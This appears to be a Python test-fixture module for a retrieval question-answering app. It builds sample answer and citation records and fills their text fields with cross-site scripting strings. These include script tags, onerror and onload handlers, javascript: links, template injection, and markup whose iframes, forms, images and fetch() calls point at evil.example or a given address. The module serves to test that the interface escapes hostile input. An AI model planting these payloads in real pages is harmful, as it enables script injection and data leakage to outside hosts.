"""Strings that attack a page, and records with such a string in every field that holds text."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime

from rag.check import Checked, changes
from rag.types import (
    Answer,
    ArticleRef,
    Checks,
    Citation,
    Claim,
    Coverage,
    Interpretation,
    Retrieved,
)
from ui.conversation import Exchange

HOSTILE = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "</p></div><svg onload=window.__xss=1>",
    '"><iframe src="http://evil.example/x"></iframe>',
    "' onmouseover='window.__xss=1' x='",
    "<a href='javascript:window.__xss=1'>x</a>",
    "![x](http://evil.example/x.png)",
    "[x](javascript:alert(1)) <form action=http://evil.example><input name=a></form>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "${window.__xss=1} {{constructor.constructor('window.__xss=1')()}} `${1}`",
    "<!--><script>window.__xss=1</script-->",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "\x00\x0b\u202e\ufeff\ud800<b>",
    "<math><mtext></form><mglyph><style></math><img src onerror=window.__xss=1>",
)
REVISION = "a" * 64


def reference(text="In Munich", url="https://example.org/a"):
    return ArticleRef("munich", REVISION, text, text, datetime(2022, 2, 19, tzinfo=UTC), url)


def citation(number=1, text="He saw no withdrawal.", **given):
    ref = given.pop("article", reference())
    values = {"match": "exact", "speaker": "Jens Stoltenberg", "speech": "direct", **given}
    return Citation(number, ref, 10, 10 + len(text), text, "before", "after", **values)


def answer(text='He said: "no" [1]. The rest is so [2].', **given):
    first = text.find(" [1].") + 5
    claims = (
        Claim(0, first, "quote", "", "verbatim", Checks(), (1,)),
        Claim(first + 1, len(text), "paraphrase", "", "supported", Checks(), (2,)),
    )
    values = {
        "id": "a1",
        "question": "What did he say?",
        "standalone_question": "What did Stoltenberg say?",
        "interpretation": Interpretation("Jens Stoltenberg", "no", date(2022, 2, 1), None),
        "status": "answered",
        "abstention": None,
        "text": text,
        "claims": claims,
        "citations": (citation(1), citation(2, "The rest is so.")),
        "conflicts": (),
        "coverage": Coverage(2, date(2022, 2, 1), date(2022, 2, 20), None),
        "evidence": (Retrieved("p", 1, 0.1, True),),
        "warnings": (),
        "model": "extractive",
        "settings": "sha256:0",
    }
    return Answer(**{**values, **given})


def exchange(whole, **given):
    values = {
        "standalone": whole.standalone_question,
        "interpretation": whole.interpretation,
        "text": whole.text,
        "citations": whole.citations,
        "warnings": whole.warnings,
        "answer": whole,
    }
    return Exchange(whole.question, "k1", **{**values, **given})


def poisoned(record, text):
    """``record`` with ``text`` in every field that holds free text, all the way down."""
    kept = {"revision", "match", "speech", "kind", "support", "status", "reason", "key"}
    changed = {}
    for one in fields(record):
        value = getattr(record, one.name)
        if one.name in kept:
            continue
        if isinstance(value, str):
            changed[one.name] = text
        elif is_dataclass(value):
            changed[one.name] = poisoned(value, text)
        elif isinstance(value, tuple) and value and is_dataclass(value[0]):
            changed[one.name] = tuple(poisoned(each, text) for each in value)
    return replace(record, **changed)


def checked(outcome, **given):
    exact = "The northern line must stay open"
    values = {
        "message": "The article has other words.",
        "quotation": "The northern line may stay closed",
        "speaker_asked": "Brandt",
        "article": reference(),
        "start": 10,
        "end": 10 + len(exact),
        "exact": exact,
        "prefix": "He disagreed. ",
        "suffix": " all winter",
        "speaker": "Tom Brandt",
        "said_on": date(2022, 2, 19),
    }
    values |= {"changes": changes(values["quotation"], exact), **given}
    return Checked(outcome, **values)


def payloads(address):
    """What a page must not follow, with ``address`` as the place it would call."""
    found = (
        f"![x]({address}/md) ![y][r]\n[r]: {address}/ref",
        f'<img src="{address}/img"><img src=x onerror="window.__xss=1">',
        f'<div style="background:url({address}/css)">x</div>',
        f'<video src="{address}/video" autoplay></video><audio src="{address}/audio" autoplay>',
        f'<svg onload="window.__xss=1"><image href="{address}/svg"/></svg>',
        f'<iframe src="{address}/frame"></iframe><object data="{address}/object"></object>',
        f'<form action="{address}/form"><button>Send</button></form>',
        '<a href="javascript:window.__xss=1">link</a> [link](javascript:window.__xss=1)',
        f'<script>window.__xss=1</script><script src="{address}/script"></script>',
        f'<link rel="stylesheet" href="{address}/link"><style>@import "{address}/import";</style>',
        f'<meta http-equiv="refresh" content="0;url={address}/meta"><base href="{address}/">',
        f"${{window.__xss=1}} {{{{this}}}} `${{fetch('{address}/template')}}`",
        "\"'><input onfocus=window.__xss=1 autofocus><details open ontoggle=window.__xss=1>",
        f"Plain address {address}/plain and <b onmouseover=window.__xss=1>bold</b>",
    )
    return tuple(" ".join(found[at : at + 3]) for at in range(0, len(found), 3))


def articles(address):
    """Articles with hostile text in every field; each answers one plain question."""
    for number, text in enumerate(payloads(address)):
        said = text.replace("\n", " ")
        body = f"The zorblat harbour number {number} was dredged in March. {said}"
        yield {
            "id": f"hostile-{number}",
            "title": f"Zorblat harbour {number} {said}",
            "text": f'{body}\n\n"The zorblat harbour is deep," Ines Haller said. {said}\n',
            "publisher": said,
            "authors": [said],
            "url": f"javascript:window.__xss=1//{address}" if number % 2 else f"{address}/page",
            "published": "2022-03-05T10:00:00Z",
        }
